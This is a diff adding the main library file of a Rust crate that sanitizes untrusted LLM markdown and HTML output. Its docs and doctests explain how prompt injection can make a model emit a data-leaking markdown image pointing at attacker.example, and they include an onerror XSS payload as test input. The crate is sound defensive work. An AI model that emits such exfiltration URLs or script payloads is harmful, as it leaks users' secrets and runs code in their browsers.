@@ -1,0 +1,149 @@
+//! # safemark
+//!
+//! Render untrusted LLM output safely. Treat what a model writes like input from an anonymous
+//! user: prompt injection cannot be prevented, so any answer may have been written by an
+//! attacker. A markdown image `![](https://attacker.example/p.png?d=SECRET)` leaks data the
+//! moment it is displayed; a link leaks it with one click; raw HTML can run script.
+//!
+//! safemark turns markdown (CommonMark + GFM) or HTML into HTML that cannot run script and
+//! cannot make a request the [`Policy`] does not allow, and reports everything it removed.
+//!
+//! ```
+//! let out = safemark::render_markdown(
+//!     "Done! ![status](https://attacker.example/p.png?d=SECRET) <img src=x onerror=alert(1)>",
+//! ).unwrap();
+//! assert!(!out.html.contains("<img"));
+//! assert!(!out.html.contains("onerror"));
+//! assert!(out.findings.iter().any(|f| f.kind == safemark::FindingKind::BlockedImage));
+//! ```
+//!
+//! With a policy, built once and reused (`Sanitizer` is `Send + Sync`):
+//!
+//! ```
+//! use safemark::{Policy, Sanitizer};
+//! let policy = Policy::from_json(r#"{"links": {"allow": ["https://docs.example.com/"]}}"#)?;
+//! let sanitizer = Sanitizer::new(policy)?;
+//! let out = sanitizer.render_markdown("[docs](https://docs.example.com/start) [x](https://evil.example/)")?;
+//! assert!(out.html.contains(r#"href="https://docs.example.com/start""#));
+//! assert!(!out.html.contains("href=\"https://evil.example"));
+//! # Ok::<(), safemark::Error>(())
+//! ```
+//!
+//! ## Pipeline
+//!
+//! One module per stage: [`policy`] (what is allowed), `urls` (judges one destination),
+//! `markdown` (pulldown-cmark event filter), `html` (ammonia, with the allowlist in
+//! [`html_allowlist`]), `text` (invisible characters), [`report`] (findings), `limits`.
+//!
+//! ## Foot-guns
+//!
+//! - The output is safe to insert with `innerHTML` as it is. Do not post-process it with
+//!   string operations, and do not insert it inside `<script>`, `<style>`, an attribute or a
+//!   `<textarea>`.
+//! - `"*"` in an allow list trusts every http(s) destination: images then leak again.
+//! - The image proxy hides the reader's address and cookies, not the URL: an allowed host still
+//!   receives whatever the URL carries.
+
+#![forbid(unsafe_code)]
+#![warn(missing_docs)]
+
+mod display;
+mod error;
+mod html;
+mod limits;
+mod markdown;
+pub mod policy;
+pub mod report;
+mod text;
+mod urls;
+
+use std::sync::{Arc, LazyLock};
+
+pub use error::Error;
+pub use policy::{
+    AbsoluteUrl, IdPrefix, ImagePolicy, Limits, LinkPolicy, Policy, PolicyBuilder, RawHtml,
+    UntrustedDisplay, UrlPrefix,
+};
+pub use report::{ByteRange, Finding, FindingKind, Rendered};
+
+/// The HTML allowlist and the markup safemark writes, for readers and auditors.
+pub mod html_allowlist {
+    pub use crate::display::{
+        BLOCKED_IMAGE_CLASS, LINK_HOST_CLASS, LINK_REFERRER_POLICY, LINK_REL, UNTRUSTED_LINK_CLASS,
+    };
+    pub use crate::html::{
+        CLASSES, GENERIC_ATTRIBUTES, REMOVED_WITH_CONTENT, TAGS, TAG_ATTRIBUTES,
+    };
+}
+
+/// A compiled, reusable sanitizer: build it once per policy, use it from any thread.
+pub struct Sanitizer {
+    policy: Arc<Policy>,
+    html: html::HtmlStage,
+}
+
+impl Sanitizer {
+    /// Compiles `policy`. Fails only if the policy is invalid (see [`Policy::validate`]).
+    pub fn new(policy: Policy) -> Result<Sanitizer, Error> {
+        policy.validate()?;
+        let policy = Arc::new(policy);
+        Ok(Sanitizer {
+            html: html::HtmlStage::new(Arc::clone(&policy)),
+            policy,
+        })
+    }
+
+    /// Parses a JSON policy and compiles it.
+    pub fn from_json(json: &str) -> Result<Sanitizer, Error> {
+        Sanitizer::new(Policy::from_json(json)?)
+    }
+
+    /// The policy in force.
+    pub fn policy(&self) -> &Policy {
+        &self.policy
+    }
+
+    /// Renders untrusted markdown to safe HTML.
+    pub fn render_markdown(&self, markdown: &str) -> Result<Rendered, Error> {
+        limits::check_input(markdown, &self.policy)?;
+        let mut findings = Vec::new();
+        let rendered = markdown::render(markdown, &self.policy, &mut findings);
+        let html = self.html.sanitize(&rendered, &self.policy, &mut findings);
+        Ok(Rendered { html, findings })
+    }
+
+    /// Sanitizes untrusted HTML.
+    pub fn sanitize_html(&self, html: &str) -> Result<Rendered, Error> {
+        limits::check_input(html, &self.policy)?;
+        let mut findings = Vec::new();
+        let html = self.html.sanitize(html, &self.policy, &mut findings);
+        Ok(Rendered { html, findings })
+    }
+}
+
+static DEFAULT: LazyLock<Sanitizer> = LazyLock::new(|| Sanitizer {
+    policy: Arc::new(Policy::default()),
+    html: html::HtmlStage::new(Arc::new(Policy::default())),
+});
+
+/// Renders untrusted markdown under the default policy.
+pub fn render_markdown(markdown: &str) -> Result<Rendered, Error> {
+    DEFAULT.render_markdown(markdown)
+}
+
+/// Sanitizes untrusted HTML under the default policy.
+pub fn sanitize_html(html: &str) -> Result<Rendered, Error> {
+    DEFAULT.sanitize_html(html)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn assert_send_sync<T: Send + Sync>() {}
+
+    #[test]
+    fn sanitizer_is_send_sync() {
+        assert_send_sync::<Sanitizer>();
+    }
+}
